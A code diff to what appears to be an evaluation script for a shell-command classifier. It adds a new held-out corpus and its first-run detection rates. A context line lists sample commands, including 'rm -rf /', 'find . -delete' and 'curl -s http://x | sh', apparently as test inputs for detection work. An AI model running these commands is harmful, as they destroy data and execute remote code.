@@ -43,6 +43,7 @@ FIRST_RUN = {
     "own held-out 19": "first run: 134/217 = 61.8%, benign 10/211 = 4.7%",
     "own held-out 20": "first run: 97/147 = 66.0%, benign 8/145 = 5.5%; 105/155, 0/137 under policy",
     "own held-out 21": "first run: 79/124 = 63.7%, benign 0/112 = 0.0%",
+    "own held-out 22": "first run: 114/196 = 58.2%, benign 5/175 = 2.9%",
 }
 CORPORA = {
     "shared (core tier)": SHARED,
@@ -68,6 +69,7 @@ CORPORA = {
     "own held-out 19": OWN / "held_out_19.jsonl",
     "own held-out 20": OWN / "held_out_20.jsonl",
     "own held-out 21": OWN / "held_out_21.jsonl",
+    "own held-out 22": OWN / "held_out_22.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
